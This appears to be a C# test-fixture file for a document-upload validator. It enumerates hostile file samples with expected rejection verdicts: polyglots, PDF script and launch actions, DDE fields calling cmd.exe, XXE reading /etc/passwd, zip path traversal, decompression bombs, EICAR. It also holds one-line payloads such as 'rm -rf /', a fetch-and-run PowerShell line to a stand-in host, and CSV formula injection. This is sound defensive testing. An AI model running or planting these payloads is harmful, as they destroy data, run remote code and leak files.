using System.Text;
using static Waymark.App.Tests.Features.Documents.Samples;

namespace Waymark.App.Tests.Features.Documents;

/// <summary>A file as somebody might send it, and what must become of it.</summary>
/// <param name="Verdict">'taken', 'virus', or the word of the refusal.</param>
internal sealed record Sent(string What, byte[] Bytes, string Verdict)
{
    public override string ToString() => What;
}

/// <summary>Files that must not be taken, each for its own reason; and good ones beside them, which must.</summary>
internal static class HostileFiles
{
    /// <summary>The test file of the antivirus makers; in two halves, so that no scanner takes this source for it.</summary>
    public static readonly byte[] Eicar = Ascii(@"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");

    public static IEnumerable<Sent> All => [.. OtherKinds, .. CutShort, .. Pdfs, .. Pictures, .. Archives, .. Documents, .. Viruses];

    static IEnumerable<Sent> OtherKinds
    {
        get
        {
            foreach (var (what, begins) in new (string, string)[]
            {
                ("a program for Windows", "MZ\x90\0\x03"), ("a program for Linux", "\x7F" + "ELF\x02\x01"), ("a program for a Mac", "\xCF\xFA\xED\xFE"), ("a program for Java", "\xCA\xFE\xBA\xBE"),
                ("a program in a shell's words", "#!/bin/sh\nrm -rf /\n"), ("a batch file", "@echo off\r\ndel *.*\r\n"), ("a script for PowerShell", "Invoke-WebRequest http://e.example/x | iex"), ("a script for a page", "alert(document.cookie)"),
                ("a script for Windows", "CreateObject(\"WScript.Shell\").Run \"calc\""), ("a page", "<html><script>alert(1)</script>"), ("a page with a mark before it", "\xEF\xBB\xBF<!DOCTYPE html><script>"), ("a page in XML", "<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"/>"),
                ("a picture in XML, which can hold scripts", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"), ("a picture in XML after white space", "\n\n  <svg/>"), ("an application of pages", "<HTA:APPLICATION>"), ("a page as a mail program saves it", "MIME-Version: 1.0\r\nContent-Type: multipart/related"),
                ("a letter", "From: a@b.example\r\nSubject: x\r\n\r\nHello"), ("plain text", "Only words."), ("a table of commas", "=cmd|' /C calc'!A0,1\r\n"), ("rich text", "{\\rtf1\\ansi\\object\\objautlink}"),
                ("an archive of RAR", "Rar!\x1A\x07\x01\0"), ("an archive of 7-Zip", "7z\xBC\xAF\x27\x1C"), ("something packed by gzip", "\x1F\x8B\x08\0\0\0\0\0"), ("a cabinet", "MSCF\0\0\0\0"), ("an archive with nothing in it", "PK\x05\x06" + new string('\0', 18)), ("a picture of GIF", "GIF89a\x01\0\x01\0"),
                ("a picture of TIFF", "II*\0\x08\0\0\0"), ("a picture of BMP", "BM\x3A\0\0\0\0\0"), ("a picture of WebP", "RIFF\x24\0\0\0WEBPVP8 "), ("a picture of HEIC", "\0\0\0\x18" + "ftypheic"), ("a film", "\0\0\0\x20" + "ftypisom"), ("a sound", "ID3\x03\0\0\0\0\0\0"),
                ("a film for Flash", "CWS\x09\0\0\0\0"), ("a shortcut", "L\0\0\0\x01\x14\x02\0"), ("an address", "[InternetShortcut]\r\nURL=file://e.example/x"), ("a help file", "ITSF\x03\0\0\0"), ("a notebook", "\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D"), ("an image of a disk", new string('\0', 64) + "CD001"),
                ("PostScript", "%!PS-Adobe-3.0\n(%stdin) (r) file\n"), ("a form's data", "%FDF-1.2\n1 0 obj<</FDF<</F(http://e.example/x.pdf)>>>>endobj\n%%EOF"), ("nothing but one letter", "x"), ("seven letters of a PDF", "%PDF-1."), ("a kilobyte of nothing", new string('\0', 1024)), ("bytes by chance", Encoding.Latin1.GetString(Noise(5000))),
                ("words that only begin like a PDF", "%PDF-1.7 and then nothing"), ("an archive that is none", "PK\x03\x04 but no archive"), ("a PDF in the second line", "\n" + Encoding.Latin1.GetString(Pdf())), ("a PDF behind a page", "<script>alert(1)</script>" + Encoding.Latin1.GetString(Pdf())),
                ("a JPEG picture behind a page", "<html>" + Encoding.Latin1.GetString(Jpeg())), ("a PNG picture with a wrong second letter", "\x89" + "QNG\r\n\x1A\n" + Encoding.Latin1.GetString(Png()[8..])),
            }) yield return new Sent(what, Ascii(begins), "kind");
            foreach (var what in new[] { "a document of Word 97", "a sheet of Excel 97", "a letter of Outlook", "a document with a password" }) yield return new Sent(what, Join([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1], Noise(600, what.Length)), "locked");
        }
    }

    static IEnumerable<Sent> CutShort =>
        from kind in new[] { "pdf", "png", "jpeg", "docx" }
        from part in new[] { 20, 50, 95 }
        let whole = Of(kind)
        select new Sent($"{part} % of a {kind}", whole[..(whole.Length * part / 100)], "kind");

    // ---- PDF ----

    static IEnumerable<Sent> Pdfs
    {
        get
        {
            foreach (var (name, verdict, action) in new[]
            {
                ("JavaScript", "active", "<< /S /JavaScript /JS (app.alert(1)) >>"), ("Launch", "active", "<< /S /Launch /F (calc.exe) >>"), ("XFA", "active", "<< /AcroForm << /XFA 9 0 R >> >>"), ("RichMedia", "active", "<< /Subtype /RichMedia >>"),
                ("Rendition", "active", "<< /S /Rendition /JS (x) >>"), ("EmbeddedFile", "inside", "<< /Type /EmbeddedFile >>"), ("EmbeddedFiles", "inside", "<< /Names << /EmbeddedFiles 9 0 R >> >>"), ("SubmitForm", "elsewhere", "<< /S /SubmitForm /F (http://e.example) >>"),
                ("ImportData", "elsewhere", "<< /S /ImportData /F (x.fdf) >>"), ("GoToR", "elsewhere", @"<< /S /GoToR /F (\\\\e.example\\x) >>"), ("GoToE", "elsewhere", "<< /S /GoToE /T << >> >>"), ("Encrypt", "locked", "<< /Encrypt 9 0 R >>"),
            })
            {
                yield return new Sent($"PDF with {name}", Pdf(action), verdict);
                yield return new Sent($"PDF with {name} in other letters", Pdf(action.Replace("/" + name, Disguised(name), StringComparison.Ordinal)), verdict);
                yield return new Sent($"PDF with {name} in packed objects", Pdf(Packed("9 0 " + action)), verdict);
                yield return new Sent($"PDF with {name} in other letters in packed objects", Pdf(Packed("9 0 " + action.Replace("/" + name, Disguised(name), StringComparison.Ordinal))), verdict);
            }
            const string script = "9 0 << /S /JavaScript >>";
            yield return new Sent("PDF whose script lies in a stream's bytes", Pdf(Stream("/Type /XObject", Ascii("1 0 obj << /S /JavaScript /JS (x) >> endobj"))), "active");
            yield return new Sent("PDF with packed objects that don't say so", Pdf(Packed(script, type: "")), "active");
            yield return new Sent("PDF with packed objects that say so in other letters", Pdf(Packed(script, type: "/Type /Obj#53tm ").Replace("/First", "/Firs#74", StringComparison.Ordinal)), "active");
            yield return new Sent("PDF with a script far into packed objects", Pdf(Packed(new string(' ', 3_000_000) + script)), "active");
            foreach (var filter in new[] { "/LZWDecode", "[/ASCIIHexDecode /FlateDecode]", "[/FlateDecode /FlateDecode]", "/ASCII85Decode", "/RunLengthDecode", "/Crypt", "9 0 R", "/FlateDecode /DecodeParms << /Predictor 12 >>" })
                yield return new Sent($"PDF with objects packed by {filter}", Pdf(Packed(script, filter: filter)), "hidden");
            yield return new Sent("PDF with packed objects that are damaged", Pdf(Stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", Noise(400))), "kind");
            yield return new Sent("PDF with packed objects that need a dictionary", Pdf(Stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", [0x78, 0xBB, 1, 2, 3, 4, .. Noise(400)])), "kind");
            yield return new Sent("PDF whose packed objects unpack to 80 MB", Pdf(Packed(new string(' ', 80 << 20))), "unpacks");
            yield return new Sent("PDF with 30,000 places to look into", Pdf(string.Concat(Enumerable.Repeat("/First ", 30_000))), "unpacks");
            yield return new Sent("PDF with an archive behind it", Join(Pdf(), Zip.Of(new Part("a.txt", Ascii("a")))), "kind-or-hidden");
            yield return new Sent("PDF that is an archive too", Join(Pdf()[..^7], Zip.Of([new Part("a.exe", Ascii("MZ"))], Pdf()[^40..])), "hidden");
            yield return new Sent("PDF with a page behind it", Join(Pdf(), Ascii("<html><script>alert(1)</script>")), "hidden");
            yield return new Sent("PDF with a program behind it", Join(Pdf(), Ascii("MZ\x90\0")), "hidden");
            yield return new Sent("PDF with a page at its head", PdfOf("%PDF-1.4\n%<html><script>alert(1)</script>\n"), "hidden");
            yield return new Sent("PDF with a picture of scripts at its head", PdfOf("%PDF-1.4\n%<SVG onload=alert(1)>\n"), "hidden");
            yield return new Sent("PDF with a program for a server at its head", PdfOf("%PDF-1.4\n%<?php system('id') ?>\n"), "hidden");
            yield return new Sent("PDF without the address of its table", Ascii(Encoding.Latin1.GetString(Pdf()).Replace("startxref", "", StringComparison.Ordinal)), "kind");
            yield return new Sent("PDF without an end", Ascii(Encoding.Latin1.GetString(Pdf()).Replace("%%EOF", "", StringComparison.Ordinal)), "kind");
        }
    }

    /// <summary>The name with each second letter as a number, as a PDF may write it.</summary>
    static string Disguised(string name) => "/" + string.Concat(name.Select((letter, at) => at % 2 == 0 ? $"#{(int)letter:x2}" : $"{letter}"));

    // ---- Pictures ----

    static IEnumerable<Sent> Pictures
    {
        get
        {
            var archive = Zip.Of(new Part("a.exe", Ascii("MZ")));
            foreach (var (what, behind) in new[] { ("a page", Ascii("<html><script>alert(1)</script>")), ("an archive", archive), ("a program", Ascii("MZ\x90\0")), ("a script", Ascii("/*x*/alert(1)")), ("a film", Ascii("\0\0\0\x20" + "ftypmp42")), ("a PDF", Pdf()) })
            {
                yield return new Sent($"JPEG with {what} behind it", Join(Jpeg(), behind), "hidden");
                yield return new Sent($"PNG with {what} behind it", Join(Png(), behind), "hidden");
            }
            foreach (var markup in new[] { "<script>alert(1)</script>", "<HTML ><body onload=x>", "<!DocType html>", "<?PHP x ?>", "<iframe src=x>", "<svg onload=x>" })
            {
                yield return new Sent($"PNG that holds {markup}", Png(1, 1, Chunk("tEXt", Ascii("Comment\0" + markup))), "hidden");
                yield return new Sent($"JPEG that holds {markup}", Jpeg(8, 8, Segment(0xFE, Ascii(markup))), "hidden");
            }
            yield return new Sent("PNG with an archive in it", Png(1, 1, Chunk("arCh", archive)), "hidden");
            yield return new Sent("JPEG with an archive in it", Jpeg(8, 8, Segment(0xFE, archive)), "hidden");
            foreach (var (width, height) in new (uint, uint)[] { (50_000, 50_000), (10_001, 10_000), (4_000_000_000, 1), (1, 4_000_000_000), (uint.MaxValue, uint.MaxValue), (200_000_000, 1) })
                yield return new Sent($"PNG of {width} by {height} points", Png(width, height), "pixels");
            yield return new Sent("PNG of 1,000 moving pictures", Png(1000, 1000, Chunk("acTL", [0, 0, 3, 0xE8, 0, 0, 0, 0])), "pixels");
            yield return new Sent("PNG of no width", Png(0, 10), "kind");
            yield return new Sent("PNG of no height", Png(10, 0), "kind");
            yield return new Sent("PNG without a picture", Join(Png()[..33], Chunk("IEND", [])), "kind");
            yield return new Sent("PNG with its header second", Join(Png()[..8], Chunk("tEXt", Ascii("a\0b")), Png()[8..]), "kind");
            yield return new Sent("PNG with two headers", Join(Png()[..33], Png()[8..]), "kind");
            yield return new Sent("PNG with a piece of four gigabytes", Join(Png()[..33], [0xFF, 0xFF, 0xFF, 0xF0], Ascii("IDAT"), Noise(50)), "kind");
            yield return new Sent("PNG with two ends", Join(Png(), Chunk("IEND", [])), "hidden");
            yield return new Sent("JPEG of 65,500 by 65,500 points", Jpeg(65_500, 65_500), "pixels");
            yield return new Sent("JPEG of 10,001 by 10,000 points", Jpeg(10_001, 10_000), "pixels");
            yield return new Sent("JPEG of four pictures of 30 million points each", Join([.. Enumerable.Repeat(Jpeg(6000, 5000), 4)]), "pixels");
            yield return new Sent("JPEG of 40 pictures", Join([.. Enumerable.Repeat(Jpeg(), 40)]), "hidden");
            yield return new Sent("JPEG of no height", Jpeg(8, 0), "kind");
            yield return new Sent("JPEG without a size", Join([0xFF, 0xD8], Segment(0xDA, [1, 1, 0, 0, 63, 0]), [0x3F, 0xFF, 0xD9]), "kind");
            yield return new Sent("JPEG without a picture", [0xFF, 0xD8, 0xFF, 0xD9, 0, 0, 0, 0], "kind");
            yield return new Sent("JPEG with a segment of length 0", [0xFF, 0xD8, 0xFF, 0xE0, 0, 0, 0xFF, 0xD9], "kind");
            yield return new Sent("JPEG that only begins", Join([0xFF, 0xD8], Enumerable.Repeat((byte)0xFF, 5000).ToArray()), "kind");
        }
    }

    // ---- Archives that call themselves Word documents ----

    static IEnumerable<Sent> Archives
    {
        get
        {
            foreach (var (what, name) in new[]
            {
                ("that leads up", "word/../../../etc/passwd"), ("that leads up at once", "../x.xml"), ("that ends above", "word/.."), ("that is here", "word/./x.xml"), ("from the root", "/etc/passwd"), ("from the root of a disk", @"C:\Windows\x.dll"), ("of Windows that leads up", @"word\..\..\x.xml"),
                ("on another machine", @"\\e.example\x"), ("with a stream", "word/a.xml:hidden"), ("with a line break", "word/a\r\nb.xml"), ("with a NUL", "word/a.xml\0.exe"), ("without letters", ""),
            }) yield return new Sent($"Word document with a name {what}", Word(new Part(name, Ascii("<a/>"))), "hidden");
            yield return new Sent("Word document with a link to a place on the disk", Word(new Part("word/media/a.png", Ascii("/etc/passwd")) { Outside = 0xA1FF0000 }), "hidden");
            yield return new Sent("Word document with a name twice", Word(new Part("word/document.xml", Ascii("<other/>"))), "hidden");
            yield return new Sent("Word document with a name twice in other letters", Word(new Part("WORD/Document.XML", Ascii("<other/>"))), "hidden");
            yield return new Sent("Word document with a part that is called otherwise within", Word(new Part("word/a.xml", Ascii("<a/>")) { Own = "word/b.exe" }), "hidden");
            yield return new Sent("Word document with something between its parts", Word(new Part("word/a.xml", Ascii("<a/>")) { Behind = Ascii("MZ\x90\0") }, new Part("word/b.xml", Ascii("<a/>"))), "hidden");
            yield return new Sent("Word document with something before its table", Word(new Part("word/a.xml", Ascii("<a/>")) { Behind = Noise(500) }), "hidden");
            yield return new Sent("Word document with something before it", Zip.Of(Parts(), [], before: Ascii("PK\x3\x4 something else ")), "hidden-or-kind");
            yield return new Sent("Word document with something behind it", Join(Word(), Ascii("<html><script>")), "kind");
            yield return new Sent("Word document with a note longer than it is", Zip.Of(Parts(), Ascii("abc"), commentLength: 30), "kind");
            yield return new Sent("Word document on a second disk", Zip.Of(Parts(), [], disk: 1), "kind");
            yield return new Sent("Word document whose table holds more than it says", Zip.Of(Parts(), [], count: 2), "hidden");
            yield return new Sent("Word document whose table holds less than it says", Zip.Of(Parts(), [], count: 9), "kind");
            yield return new Sent("Word document of the larger kind of archive", Zip.Of(Parts(), [], count: ushort.MaxValue), "kind");
            yield return new Sent("Word document with parts one over another", Word(new Part("word/a.xml", Ascii("<a/>")) { Own = "[Content_Types].xml", At = 0 }), "hidden");
            yield return new Sent("Word document with a part beyond its end", Word(new Part("word/a.xml", Ascii("<a/>")) { At = 9_000_000 }), "kind");
            yield return new Sent("Word document with a password on a part", Word(new Part("word/a.xml", Ascii("<a/>")) { Flags = 1 }), "locked");
            yield return new Sent("Word document packed in another way", Word(new Part("word/a.xml", Ascii("<a/>")) { Method = 12 }), "kind");
            yield return new Sent("Word document that says that a part is shorter than it is", Word(new Part("word/media/a.png", Noise(5000)) { Size = 10 }), "kind");
            yield return new Sent("Word document that says that a part is longer than it is", Word(new Part("word/media/a.png", Noise(50)) { Size = 500 }), "kind");
            yield return new Sent("Word document with a part of 2 GB, as it says", Word(new Part("word/a.xml", Ascii("<a/>")) { Size = 2_000_000_000 }), "unpacks");
            yield return new Sent("Word document that unpacks to 110 MB", Word(new Part("word/media/a.bmp", new byte[110 << 20])), "unpacks");
            yield return new Sent("Word document that unpacks to a thousand times its size", Word(new Part("word/media/a.bmp", new byte[30 << 20])), "unpacks");
            yield return new Sent("Word document that unpacks to a thousand times its size and doesn't say so", Word(new Part("word/media/a.bmp", new byte[30 << 20]) { Size = 1000 }), "kind");
            yield return new Sent("Word document of 2,001 parts", Word([.. Enumerable.Range(0, 1998).Select(i => new Part($"word/{i}.xml", Ascii("<a/>")))]), "unpacks");
            foreach (var (what, begins, verdict) in new[]
            {
                ("an archive", "PK\x3\x4", "inside"), ("an empty archive", "PK\x5\x6", "inside"), ("an archive of RAR", "Rar!\x1A\x07", "inside"), ("an archive of 7-Zip", "7z\xBC\xAF\x27\x1C", "inside"), ("something packed by gzip", "\x1F\x8B\x08", "inside"), ("a cabinet", "MSCF", "inside"),
                ("a PDF", "%PDF-1.4", "inside"), ("an older document", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", "inside"), ("a program for Windows", "MZ\x90", "active"), ("a program for Linux", "\x7F" + "ELF", "active"), ("a shell's words", "#!/bin/sh", "active"),
            }) yield return new Sent($"Word document with {what} in it", Word(new Part("word/media/image1.png", Ascii(begins + "and more"))), verdict);
        }
    }

    static IEnumerable<Sent> Documents
    {
        get
        {
            foreach (var name in new[] { "word/vbaProject.bin", "word/VBAPROJECT.BIN", "other/vbaProject.bin", "word/vbaData.xml", "word/activeX/activeX1.xml", "word/activeX/activeX1.bin" }) yield return new Sent($"Word document with {name}", Word(new Part(name, Ascii("<x/>"))), "active");
            foreach (var name in new[] { "word/embeddings/oleObject1.bin", "word/embeddings/Microsoft_Excel_Sheet1.xlsx", "word/Embeddings/a.docx" }) yield return new Sent($"Word document with {name}", Word(new Part(name, Ascii("<x/>"))), "inside");
            yield return new Sent("Word document that says that it has macros", Zip.Of(Parts(main: "application/vnd.ms-word.document.macroEnabled.main+xml")), "active");
            yield return new Sent("Word document that has a type for macros", Zip.Of(Parts(types: "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>")), "active");
            yield return new Sent("Word document that has a type for controls", Zip.Of(Parts(types: "<Override PartName=\"/word/a.bin\" ContentType=\"application/vnd.ms-office.activeX\"/>")), "active");
            yield return new Sent("a Word template", Zip.Of(Parts(main: "template.main")), "kind");
            yield return new Sent("a sheet of Excel", Zip.Of(Parts(main: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", path: "xl/workbook.xml")), "kind");
            yield return new Sent("slides", Zip.Of(Parts(main: "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", path: "ppt/presentation.xml")), "kind");
            yield return new Sent("a text of LibreOffice", Zip.Of(new Part("mimetype", Ascii("application/vnd.oasis.opendocument.text")) { Stored = true }, new Part("content.xml", Ascii("<x/>"))), "kind");
            yield return new Sent("an archive", Zip.Of(new Part("a.txt", Ascii("Words."))), "kind");
            yield return new Sent("a program of Java in an archive", Zip.Of(new Part("META-INF/MANIFEST.MF", Ascii("Main-Class: A")), new Part("A.class", Ascii("\xCA\xFE\xBA\xBE"))), "kind");
            yield return new Sent("Word document without its words", Zip.Of(Parts()[..2]), "kind");
            yield return new Sent("Word document without its types", Zip.Of(Parts()[1..]), "kind");
            yield return new Sent("Word document with a type of types", Zip.Of([new Part("[Content_Types].xml", Ascii("<!DOCTYPE a [<!ENTITY b 'c'>]><Types>&b;</Types>")), .. Parts()[1..]]), "kind");
            yield return new Sent("Word document with entities of entities", Word(new Part("word/a.xml", Ascii("<!DOCTYPE a [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'>]><a>&c;</a>"))), "kind");
            yield return new Sent("Word document that reads a file", Word(new Part("word/a.xml", Ascii("<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"))), "kind");
            yield return new Sent("Word document that is broken within", Word(new Part("word/a.xml", Ascii("<a><b></a>"))), "kind");
            foreach (var target in new[] { "http://e.example/x.dotm", "https://e.example/x.dotm", @"\\e.example\x.dotm", "file://e.example/x.dotm", @"file:///\\e.example\x.dotm", "//e.example/x.dotm" })
                yield return new Sent($"Word document with the template {target}", WordOf("attachedTemplate", target), "elsewhere");
            foreach (var type in new[] { "image", "oleObject", "frame", "subDocument", "externalLink", "aFChunk", "mailMergeSource", "video" }) yield return new Sent($"Word document with {type} from elsewhere", WordOf(type, "http://e.example/x"), "elsewhere");
            foreach (var (type, verdict) in new[] { ("aFChunk", "inside"), ("oleObject", "inside"), ("package", "inside"), ("control", "active") }) yield return new Sent($"Word document with {type} in it", WordOf(type, "media/a.bin", external: false), verdict);
            yield return new Sent("Word document with a picture from elsewhere that doesn't say so", WordOf("image", "http://e.example/x", external: false), "elsewhere");
            yield return new Sent("Word document with a picture from elsewhere in other letters", Zip.Of(Parts(relations: Relation("image", "http://e.example/x").Replace("External", "eXTERNAL", StringComparison.Ordinal))), "elsewhere");
            yield return new Sent("Word document with a picture from elsewhere in wide letters", Word(new Part("word/_rels/a.xml.rels", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes($"<?xml version=\"1.0\" encoding=\"utf-16\"?><Relationships>{Relation("image", "http://e.example/x")}</Relationships>")])), "elsewhere");
            foreach (var target in new[] { "javascript:alert(1)", " JavaScript:alert(1)", "vbscript:x", "data:text/html,x", "ms-msdt:/id" }) yield return new Sent($"Word document with a link to {target}", WordOf("hyperlink", target), "active");
            const string run = "<w:r><w:instrText>{0}</w:instrText></w:r>";
            yield return new Sent("Word document with a field that calls a program", WordSaying(string.Format(null, System.Text.CompositeFormat.Parse(run), "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"")), "active");
            yield return new Sent("Word document with a field that calls a program, in pieces", WordSaying($"<w:p>{string.Concat(new[] { " D", "D", "EAU", "TO", " c" }.Select(piece => run.Replace("{0}", piece, StringComparison.Ordinal)))}</w:p>"), "active");
            yield return new Sent("Word document with a simple field that calls a program", WordSaying("<w:fldSimple w:instr=\" dde excel x\"/>"), "active");
            yield return new Sent("Word document with a field in a heading that calls a program", Word(new Part("word/header1.xml", Ascii("<w:hdr xmlns:w=\"w\"><w:instrText>DDE x</w:instrText></w:hdr>"))), "active");
            yield return new Sent("Word document with a field that fetches a picture", WordSaying("<w:instrText> INCLUDEPICTURE \"http://e.example/x.png\" \\d</w:instrText>"), "elsewhere");
            yield return new Sent("Word document with a field that fetches a text", WordSaying(@"<w:instrText>INCLUDETEXT \\e.example\x</w:instrText>"), "elsewhere");
        }
    }

    static IEnumerable<Sent> Viruses =>
    [
        new("EICAR by itself", Eicar, "kind"),
        new("EICAR under another's first letters", Join(Ascii("%PDF-1.4\n"), Eicar), "kind"),
        new("EICAR in a PDF", Pdf(Stream("/Type /XObject", Eicar)), "virus"),
        new("EICAR packed in a PDF", Pdf(Stream("/Filter /FlateDecode", Deflated(Eicar))), "virus"),
        new("EICAR in a Word document", Word(new Part("word/media/image1.png", Eicar)), "virus"),
        new("EICAR stored in a Word document", Word(new Part("word/media/image1.png", Eicar) { Stored = true }), "virus"),
        new("EICAR in a PNG picture's words", Png(1, 1, Chunk("tEXt", Join(Ascii("a\0"), Eicar))), "virus"),
        new("EICAR in a JPEG picture's words", Jpeg(8, 8, Segment(0xFE, Eicar)), "virus"),
    ];

    /// <summary>What people do send.</summary>
    public static IEnumerable<Sent> Good =>
    [
        .. from each in (IEnumerable<(string What, byte[] Bytes)>)
        [
            ("PDF of a page", Pdf()),
            ("PDF of version 1.4", PdfOf("%PDF-1.4\n%\xE2\xE3\xCF\xD3\n")),
            ("PDF with line ends of Windows behind it", Join(Pdf(), Ascii("\r\n\r\n"))),
            ("PDF with packed objects", Pdf(Packed("9 0 << /Type /Font /BaseFont /Helvetica >>"))),
            ("PDF with a table in a stream", Pdf(Stream("/Type /XRef /W [1 2 1] /Index [0 3] /First 3 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>", Deflated([1, 2, 3])))),
            ("PDF with an outline", Pdf("<< /Type /Outlines /First 11 0 R /Last 12 0 R /Count 2 >>", "<< /Title (One) /Next 12 0 R >>", "<< /Title (Two) >>")),
            ("PDF with a link", Pdf("<< /S /URI /URI (https://www.gov.uk/) >>")),
            ("PDF that opens at a page", Pdf("<< /OpenAction [3 0 R /Fit] >>")),
            ("PDF with a picture by chance", Pdf(Stream("/Type /XObject /Subtype /Image /Filter /DCTDecode", Join(Noise(90_000), Ascii("/JS ("), Noise(90_000, 8))))),
            ("PDF that says what it is about", Pdf(Stream("/Type /Metadata /Subtype /XML", Ascii("<?xpacket begin=''?><x:xmpmeta xmlns:x='adobe:ns:meta/'></x:xmpmeta>")))),
            ("PDF whose words aren't encrypted", Pdf("<< /EncryptMetadata false >>")),
            ("PDF with a form", Pdf("<< /AcroForm << /Fields [] /DA (/Helv 0 Tf) >> >>")),
            ("Word document", Word()),
            ("Word document with a link", WordOf("hyperlink", "https://www.gov.uk/")),
            ("Word document with a link to the council's own drive", WordOf("hyperlink", @"file:///S:\Teams\North\plan.docx")),
            ("Word document from a template of the writer's own", WordOf("attachedTemplate", @"file:///S:\Templates\Letter.dotx")),
            ("Word document from the usual template", WordOf("attachedTemplate", "Normal.dotm")),
            ("Word document with a picture", Word(new Part("word/media/image1.png", Png()) { Stored = true }, new Part("word/media/image2.jpg", Jpeg()))),
            ("Word document under another name within", Zip.Of(Parts(path: "word/document2.xml"))),
            ("Word document in wide letters", Zip.Of([.. Parts()[..2], new Part("word/document.xml", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<?xml version=\"1.0\" encoding=\"utf-16\"?><document/>")])])),
            ("Word document with sizes behind its parts", Zip.Of([.. Parts().Select(part => part with { Flags = 8, Behind = Noise(16) })])),
            ("Word document with a scrambled font", Word(new Part("word/fonts/font1.odttf", Join(Ascii("MZ"), Noise(500))))),
            ("Word document with page numbers", WordSaying("<w:instrText> PAGE </w:instrText><w:t>The sign says DDE.</w:t>")),
            ("Word document that repeats itself", WordSaying(string.Concat(Enumerable.Repeat(Written, 100_000)))),
            ("PNG of a point", Png()),
            ("PNG of a screen", Png(3840, 2160, Chunk("tEXt", Ascii("Software\0Screen < 4")))),
            ("PNG that moves a little", Png(500, 500, Chunk("acTL", [0, 0, 0, 20, 0, 0, 0, 0]))),
            ("JPEG of a camera", Jpeg(8064, 6048, Segment(0xE1, Join(Ascii("Exif\0\0"), Noise(900))))),
            ("JPEG with marks to begin again from", Join(Jpeg()[..^2], [0xFF, 0xD1, 5, 6, 0xFF, 0, 0xFF, 0xD2], [0xFF, 0xD9])),
            ("JPEG in several passes", Join(Jpeg()[..^2], Segment(0xC4, [0, 1, .. new byte[15], 0]), Segment(0xDA, [1, 1, 0, 0, 63, 0]), Noise(50).Where(one => one != 0xFF).ToArray(), [0xFF, 0xD9])),
            ("JPEG with a second, smaller picture behind it", Join(Jpeg(4000, 3000), Jpeg(320, 240))),
            ("JPEG with padding behind it", Join(Jpeg(), new byte[300])),
        ]
        select new Sent(each.What, each.Bytes, "taken"),
    ];
}
